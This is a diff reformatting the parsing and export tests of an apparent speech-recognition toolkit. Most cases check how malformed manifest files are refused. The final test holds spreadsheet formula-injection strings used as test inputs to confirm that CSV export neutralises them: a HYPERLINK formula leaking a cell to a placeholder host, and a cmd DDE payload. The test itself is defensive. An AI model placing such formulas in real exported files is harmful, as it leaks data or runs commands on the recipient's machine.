@@ -56,68 +56,160 @@ def jsonl(*entries: str) -> bytes:
 HI = '{"audio_filepath": "a.wav", "text": "hi"}'
 CASES = [
     # encodings and line ends
-    ("utf-8 BOM before a TSV header", "m.tsv", BOM + b"path\ttranscript\na.wav\thi\n",
-     Parsed((("a.wav", "hi", None, ""),))),
+    (
+        "utf-8 BOM before a TSV header",
+        "m.tsv",
+        BOM + b"path\ttranscript\na.wav\thi\n",
+        Parsed((("a.wav", "hi", None, ""),)),
+    ),
     ("utf-8 BOM before JSON lines", "m.jsonl", BOM + jsonl(HI), Parsed((("a.wav", "hi", None, ""),))),
-    ("Windows line ends", "m.tsv", b"path\ttranscript\tduration_s\r\na.wav\thi there\t1.5\r\n",
-     Parsed((("a.wav", "hi there", 1.5, ""),))),
-    ("UTF-16, as some editors save 'Unicode'", "m.tsv", "path\ttranscript\na.wav\thi\n".encode("utf-16"),
-     Refused(r"m\.tsv: not UTF-8 text; it is UTF-16")),
+    (
+        "Windows line ends",
+        "m.tsv",
+        b"path\ttranscript\tduration_s\r\na.wav\thi there\t1.5\r\n",
+        Parsed((("a.wav", "hi there", 1.5, ""),)),
+    ),
+    (
+        "UTF-16, as some editors save 'Unicode'",
+        "m.tsv",
+        "path\ttranscript\na.wav\thi\n".encode("utf-16"),
+        Refused(r"m\.tsv: not UTF-8 text; it is UTF-16"),
+    ),
     # nothing to read
     ("zero bytes", "m.tsv", b"", Refused(r"m\.tsv: empty file")),
     ("a header and no rows", "m.tsv", b"path\ttranscript\n", Refused(r"m\.tsv: no entries")),
     ("only blank JSON lines", "m.jsonl", b"\n  \n\n", Refused(r"m\.jsonl: no entries")),
     # fields of the wrong type or shape
-    ('"text": null', "m.jsonl", jsonl('{"audio_filepath": "a.wav", "text": null}'),
-     Refused(r"m\.jsonl:1: field 'text' must be a string, got null")),
-    ('"text": a number, on line 2', "m.jsonl", jsonl(HI, '{"audio_filepath": "b.wav", "text": 42}'),
-     Refused(r"m\.jsonl:2: field 'text' must be a string, got 42")),
-    ('"text": a list', "m.jsonl", jsonl('{"audio_filepath": "a.wav", "text": ["hi"]}'),
-     Refused(r":1: field 'text' must be a string")),
-    ('"audio_filepath": null', "m.jsonl", jsonl('{"audio_filepath": null, "text": "hi"}'),
-     Refused(r":1: field 'audio_filepath' must be a string, got null")),
-    ('"audio_filepath": ""', "m.jsonl", jsonl('{"audio_filepath": " ", "text": "hi"}'),
-     Refused(r":1: field 'audio_filepath' must name an audio file")),
+    (
+        '"text": null',
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": null}'),
+        Refused(r"m\.jsonl:1: field 'text' must be a string, got null"),
+    ),
+    (
+        '"text": a number, on line 2',
+        "m.jsonl",
+        jsonl(HI, '{"audio_filepath": "b.wav", "text": 42}'),
+        Refused(r"m\.jsonl:2: field 'text' must be a string, got 42"),
+    ),
+    (
+        '"text": a list',
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": ["hi"]}'),
+        Refused(r":1: field 'text' must be a string"),
+    ),
+    (
+        '"audio_filepath": null',
+        "m.jsonl",
+        jsonl('{"audio_filepath": null, "text": "hi"}'),
+        Refused(r":1: field 'audio_filepath' must be a string, got null"),
+    ),
+    (
+        '"audio_filepath": ""',
+        "m.jsonl",
+        jsonl('{"audio_filepath": " ", "text": "hi"}'),
+        Refused(r":1: field 'audio_filepath' must name an audio file"),
+    ),
     ("an empty path column", "m.tsv", b"path\ttranscript\n\thi\n", Refused(r"m\.tsv:2: field 'path' must name")),
     ("a NUL byte in a path", "m.tsv", b"path\ttranscript\na\x00.wav\thi\n", Refused(r":2: field 'path' must name")),
-    ('"speaker": an object', "m.jsonl", jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": {}}'),
-     Refused(r":1: field 'speaker' must be a string or an integer")),
-    ("a tab inside a transcript", "m.tsv", b"path\ttranscript\na.wav\thi\tthere\n",
-     Refused(r"m\.tsv:2: expected 2 tab-separated fields")),
-    ("a field over csv's size limit", "m.tsv", b"path\ttranscript\na.wav\thi\nb.wav\t" + b"x" * 200_000 + b"\n",
-     Refused(r"m\.tsv:3: field larger than field limit")),
-    ("an integer of more digits than Python converts", "m.jsonl",
-     jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": ' + "7" * 5000 + "}"), Refused(r":1: not JSON")),
-    ("JSON nested past the recursion limit", "m.jsonl",
-     jsonl('{"audio_filepath": "a.wav", "text": "hi", "x": ' + "[" * DEEP + "]" * DEEP + "}"),
-     Refused(r":1: JSON nested too deeply")),
+    (
+        '"speaker": an object',
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": {}}'),
+        Refused(r":1: field 'speaker' must be a string or an integer"),
+    ),
+    (
+        "a tab inside a transcript",
+        "m.tsv",
+        b"path\ttranscript\na.wav\thi\tthere\n",
+        Refused(r"m\.tsv:2: expected 2 tab-separated fields"),
+    ),
+    (
+        "a field over csv's size limit",
+        "m.tsv",
+        b"path\ttranscript\na.wav\thi\nb.wav\t" + b"x" * 200_000 + b"\n",
+        Refused(r"m\.tsv:3: field larger than field limit"),
+    ),
+    (
+        "an integer of more digits than Python converts",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": ' + "7" * 5000 + "}"),
+        Refused(r":1: not JSON"),
+    ),
+    (
+        "JSON nested past the recursion limit",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "x": ' + "[" * DEEP + "]" * DEEP + "}"),
+        Refused(r":1: JSON nested too deeply"),
+    ),
     # durations that are not a length of time
-    ("duration nan", "m.tsv", b"path\ttranscript\tduration_s\na.wav\thi\tnan\n",
-     Refused(r"m\.tsv:2: duration 'nan' must be a finite number of seconds")),
-    ("duration NaN, a JSON extension Python accepts", "m.jsonl",
-     jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": NaN}'),
-     Refused(r":1: duration nan must be a finite")),
-    ("duration -Infinity", "m.jsonl", jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": -Infinity}'),
-     Refused(r":1: duration -inf must be a finite")),
-    ("a negative duration", "m.tsv", b"path\ttranscript\tduration_s\na.wav\thi\t-1.5\n",
-     Refused(r":2: duration '-1.5' must be a finite number of seconds, at least 0")),
-    ("duration true", "m.jsonl", jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": true}'),
-     Refused(r":1: duration True is not a number")),
-    ("a duration too large for a float", "m.jsonl",
-     jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": 1' + "0" * 400 + "}"),
-     Refused(r":1: duration \d+ is not a number")),
+    (
+        "duration nan",
+        "m.tsv",
+        b"path\ttranscript\tduration_s\na.wav\thi\tnan\n",
+        Refused(r"m\.tsv:2: duration 'nan' must be a finite number of seconds"),
+    ),
+    (
+        "duration NaN, a JSON extension Python accepts",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": NaN}'),
+        Refused(r":1: duration nan must be a finite"),
+    ),
+    (
+        "duration -Infinity",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": -Infinity}'),
+        Refused(r":1: duration -inf must be a finite"),
+    ),
+    (
+        "a negative duration",
+        "m.tsv",
+        b"path\ttranscript\tduration_s\na.wav\thi\t-1.5\n",
+        Refused(r":2: duration '-1.5' must be a finite number of seconds, at least 0"),
+    ),
+    (
+        "duration true",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": true}'),
+        Refused(r":1: duration True is not a number"),
+    ),
+    (
+        "a duration too large for a float",
+        "m.jsonl",
+        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": 1' + "0" * 400 + "}"),
+        Refused(r":1: duration \d+ is not a number"),
+    ),
     # read, with a warning or as they are
-    ("the same file on two lines", "m.tsv", b"path\ttranscript\na.wav\thi\nb.wav\tyo\na.wav\thi\n",
-     Parsed((("a.wav", "hi", None, ""), ("b.wav", "yo", None, ""), ("a.wav", "hi", None, "")),
-            warning=r"m\.tsv: 1 audio file\(s\) appear more than once .*a\.wav on lines 2, 4")),
-    ("the same file spelt two ways", "m.jsonl", jsonl(HI, '{"audio_filepath": "sub/../a.wav", "text": "hi"}'),
-     Parsed((("a.wav", "hi", None, ""), ("sub/../a.wav", "hi", None, "")), warning=r"a\.wav on lines 1, 2")),
-    ("an empty transcript (a clip of silence to train on)", "m.tsv", b"path\ttranscript\na.wav\t\n",
-     Parsed((("a.wav", "", None, ""),))),
-    ("numbered and missing speakers", "m.jsonl",
-     jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": 7}',
-           '{"audio_filepath": "b.wav", "text": "yo", "speaker": null}'),
-     Parsed((("a.wav", "hi", None, "7"), ("b.wav", "yo", None, "")))),
+    (
+        "the same file on two lines",
+        "m.tsv",
+        b"path\ttranscript\na.wav\thi\nb.wav\tyo\na.wav\thi\n",
+        Parsed(
+            (("a.wav", "hi", None, ""), ("b.wav", "yo", None, ""), ("a.wav", "hi", None, "")),
+            warning=r"m\.tsv: 1 audio file\(s\) appear more than once .*a\.wav on lines 2, 4",
+        ),
+    ),
+    (
+        "the same file spelt two ways",
+        "m.jsonl",
+        jsonl(HI, '{"audio_filepath": "sub/../a.wav", "text": "hi"}'),
+        Parsed((("a.wav", "hi", None, ""), ("sub/../a.wav", "hi", None, "")), warning=r"a\.wav on lines 1, 2"),
+    ),
+    (
+        "an empty transcript (a clip of silence to train on)",
+        "m.tsv",
+        b"path\ttranscript\na.wav\t\n",
+        Parsed((("a.wav", "", None, ""),)),
+    ),
+    (
+        "numbered and missing speakers",
+        "m.jsonl",
+        jsonl(
+            '{"audio_filepath": "a.wav", "text": "hi", "speaker": 7}',
+            '{"audio_filepath": "b.wav", "text": "yo", "speaker": null}',
+        ),
+        Parsed((("a.wav", "hi", None, "7"), ("b.wav", "yo", None, ""))),
+    ),
 ]
 
 
@@ -155,8 +247,11 @@ def outcome(text: str) -> Outcome:
 def test_empty_references_are_left_out_of_the_wer_with_a_warning_naming_them(tmp_path):
     from asrkit.manifest import Utterance
 
-    utterances = [Utterance(tmp_path / "a.wav", "the cat sat"), Utterance(tmp_path / "silence.wav", " ... "),
-                  Utterance(tmp_path / "b.wav", "on the mat")]
+    utterances = [
+        Utterance(tmp_path / "a.wav", "the cat sat"),
+        Utterance(tmp_path / "silence.wav", " ... "),
+        Utterance(tmp_path / "b.wav", "on the mat"),
+    ]
     hypotheses = ["the cat sat down", "oh hello there", "on a mat"]
     with pytest.warns(ManifestWarning, match=r"1 utterance\(s\) with an empty reference .*silence\.wav"):
         report = build_report("m", utterances, [outcome(h) for h in hypotheses])
@@ -255,8 +350,14 @@ def test_transcribe_lines_escape_tabs_and_newlines_in_file_names(tiny_model_dir,
 def test_csv_text_cells_cannot_start_a_formula_and_numbers_stay_numbers(tmp_path):
     from asrkit.manifest import Utterance
 
-    attacks = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-               "\tlooks blank", "\rlooks blank"]
+    attacks = [
+        '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tlooks blank",
+        "\rlooks blank",
+    ]
     utterances = [Utterance(tmp_path / f"{i}.wav", "one two", speaker=a) for i, a in enumerate(attacks)]
     utterances += [Utterance(tmp_path / "@SUM(A1).wav", "three four", speaker="ana = bob")]
     outcomes = [outcome("one two") for _ in attacks] + [Outcome(None, error=attacks[1])]
